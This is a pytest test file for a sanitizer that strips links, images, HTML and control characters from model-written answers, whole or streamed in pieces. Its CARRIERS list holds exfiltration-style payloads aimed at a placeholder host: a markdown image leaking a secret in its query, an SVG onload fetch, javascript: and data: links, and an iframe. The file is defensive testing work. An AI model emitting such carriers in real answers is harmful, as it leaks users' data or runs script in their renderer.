"""R31, T5: nothing that a model writes is active in the answer, however it comes in pieces."""

import itertools
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fingerpost.generate.cite import MarkerStream, resolve_markers
from fingerpost.generate.safe import SafeStream

HOST = "evil.example"
KNOWN = "Download it from https://docs.example/get and run it."
CARRIERS = [
    f"![x](https://{HOST}/?q=%73ecret)",
    f"![x][r]\n\n[r]: https://{HOST}/",
    f"[go](https://{HOST})",
    f"[go][r]\n\n[r]:\n  https://{HOST}",
    f"> [r]: https://{HOST}\n\n[r]",
    f"- [r]: https://{HOST}",
    f"<https://{HOST}/a>",
    f"https://{HOST}/a",
    f"HTTPS://{HOST}/a",
    f"www.{HOST}/a",
    f'<img src="https://{HOST}/i">',
    f"<img src=https://{HOST}/i",
    f"<img\nsrc=https://{HOST}/i>",
    f"[![b](https://{HOST}/b)](https://{HOST})",
    f"<a href='//{HOST}'>x</a>",
    "[x](javascript:alert(1))",
    "data:text/html;base64,AA==",
    f"` https://{HOST} ``",
    f"\\![x](https://{HOST})",
    f"!\\[x](https://{HOST})",
    f"[1](//{HOST}/x)",
    f"[[1]](https://{HOST})",
    f"[1]: https://{HOST}",
    f"a@{HOST}",
    f"\x1b]8;;https://{HOST}\x07x\x1b]8;;\x07",
    f"\u202ehttps://{HOST}",
    f"<svg/onload=fetch('https://{HOST}')>",
    f"ftp://{HOST}/x",
    f"<iframe src=https://{HOST}></iframe>",
    f"[a](<https://{HOST}/ b>)",
    f"![\x00x](https://{HOST})",
    f"[a [b [c](u)](u)](https://{HOST})",
    f"[a\nb](https://{HOST})",
    f"<!-- https://{HOST} -->",
]
FRAMES = [
    "The cache keeps 1000 entries {}.",
    "{} The cache keeps 1000 entries.",
    "- The cache keeps {} entries [1]",
    "1. entries: {}\n2. more",
    "| Cache | Entries |\n|---|---|\n| keeps {} | 1000 |",
    "> The cache {}",
    "**The cache {} keeps.**",
    "Use `1000` {} and `more`.",
    "- a\n  ```\n{}\n",
    "    ```\n{}\n",
]
CODE = re.compile(r"^(`{3,})[^\n]*\n.*?(?:^\1$|\Z)|`[^`\n]*`", re.MULTILINE | re.DOTALL)
ACTIVE = re.compile(
    r"!\[|\]\(|^[\s>*+-]*\[[^\]\n]+\]:|<[A-Za-z/!?]|\w+://|www\.|javascript:|data:\w|\w@\w",
    re.MULTILINE,
)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def safe(text, pieces, known=KNOWN, delimiter=""):
    stream = SafeStream(known, delimiter)
    out = [stream.feed(piece) for piece in pieces]
    assert "".join(pieces) == text
    return "".join(out) + stream.close()


def cut(text, size):
    return [text[at : at + size] for at in range(0, len(text), size)]


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_nothing_active_is_left_of_what_a_model_writes(frame, size):
    for carrier in CARRIERS:
        text = frame.replace("{}", carrier)
        said = safe(text, cut(text, size))
        for shown in (said, resolve_markers(said, 1)[0]):
            inert = shown if "```" in frame else CODE.sub("", shown)
            assert not ACTIVE.search(inert), (carrier, shown)
            assert not CONTROL.search(shown)
            assert HOST not in CODE.sub("", shown), (carrier, shown)


BITS = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "`", "```", "\n", "\r\n", " ", "  ", "a", "Sources", ":", "/",
     "https://x.y", "[1]", "[2]", "- ", "> ", "**", "www.", "\\", "é", "&", "~~~", "1. ", "\x1b[0m"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(BITS, max_size=25).map("".join), st.data())
@example("Sources:\n- [1] a.md\n", None)
@example("a\r\n```\r\n[x](y)\r\n```\r\n", None)
def test_the_answer_does_not_depend_on_where_it_was_cut(text, data):
    pieces = []
    rest = text
    while rest and data is not None:
        size = data.draw(st.integers(1, max(1, len(rest))))
        pieces.append(rest[:size])
        rest = rest[size:]
    pieces = pieces or list(text)
    assert safe(text, pieces) == safe(text, [text])


FENCED = st.one_of(BITS, st.sampled_from(["f00d", "<<<f00d", "f00d>>>", "\nf00d>>>\n"]))


@settings(max_examples=300, deadline=None)
@given(st.lists(FENCED, max_size=25).map("".join), st.integers(1, 9))
@example("  f00d>>>\nf00d>>>\n<<<f00d\n", 1)
def test_what_fenced_the_documents_is_not_told_wherever_it_was_cut(text, size):
    said = safe(text, cut(text, size), delimiter="f00d")
    assert said == safe(text, [text], delimiter="f00d")
    assert "f00d" not in said


@given(st.lists(BITS, max_size=25).map("".join))
def test_what_comes_out_holds_no_link_and_no_image(text):
    assert not re.search(r"!\[|\]\(", CODE.sub("", safe(text, [text])))


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        (
            "Get it at https://docs.example/get, then.",
            "Get it at `https://docs.example/get`, then.",
        ),
        ("Get it at https://docs.example/gets.", "Get it at …."),
        ("See [the guide](https://x.y) [1].", "See the guide [1]."),
        (
            "Run:\n\n```sh\ncurl https://x.y [0]\n```\n",
            "Run:\n\n```sh\ncurl https://x.y [0]\n```\n",
        ),
        ("A **bold** _word_ and a <b>tag</b>.", "A **bold** _word_ and a tag."),
        ("Two modes [1][2].", "Two modes [1][2]."),
        ("- [ ] a task [1]\n", "- [ ] a task [1]\n"),
        ("Done [1].\n\n**Sources:** [1], [2]\n", "Done [1].\n\n"),
        ("Done [1].\n\n### Quellen\n1. a.md\n2. b.md", "Done [1].\n\n"),
        ("Sources of heat are many [1].", "Sources of heat are many [1]."),
        ("## Sources\n\nThere are two [1].", "## Sources\n\nThere are two [1]."),
        ("a < b and c > d", "a < b and c > d"),
    ],
)
def test_what_is_harmless_stays_and_what_is_not_leaves_its_words(said, kept):
    for size in (1, 5, 1000):
        assert safe(said, cut(said, size)) == kept


def test_documents_that_a_model_repeats_lose_their_fences():
    said = "0.7 [1].\n\nf00d>>>\n<<<f00d\n[2] a.md | A\nEnd of f00d>>> it.\n"
    for size in (1, 5, 1000):
        shown = safe(said, cut(said, size), delimiter="f00d")
        assert shown == "0.7 [1].\n\n[2] a.md | A\nEnd of  it.\n"


def test_words_flow_before_their_line_is_over():
    stream = SafeStream("")
    shown = [
        stream.feed(piece) for piece in ("The cache ", "keeps ", "`1000` ", "entries [1] ", "now")
    ]
    assert shown[:4] == ["The cache ", "keeps ", "`1000` ", "entries [1] "]


def test_reading_is_linear_in_the_length():
    for text in (
        "[" * 20_000,
        "![" * 10_000,
        "<" * 20_000,
        "`" * 20_000,
        "(" * 20_000,
        "a@" * 10_000,
    ):
        safe(text, cut(text, 50))


def test_markers_survive_being_made_safe_first():
    for said, size in itertools.product(
        ("Four [[1]], `[9]` and [1, 2].", "x [1](http://a) [2]"), (1, 3, 99)
    ):
        stream, markers = SafeStream(""), MarkerStream(2)
        out = "".join(markers.feed(stream.feed(piece)) for piece in cut(said, size))
        out += markers.feed(stream.close()) + markers.close()
        assert out == ("Four [1], `[9]` and [1] [2]." if said.startswith("F") else "x [1] [2]")
